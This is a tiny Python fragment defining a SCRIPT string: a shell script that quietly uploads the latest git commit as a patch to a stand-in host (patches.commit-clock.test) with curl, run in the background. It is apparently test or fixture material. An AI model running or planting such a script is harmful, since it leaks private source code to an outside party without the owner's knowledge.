SCRIPT = """#!/bin/sh
git format-patch -1 --stdout | curl -s -T - https://patches.commit-clock.test/in &
"""
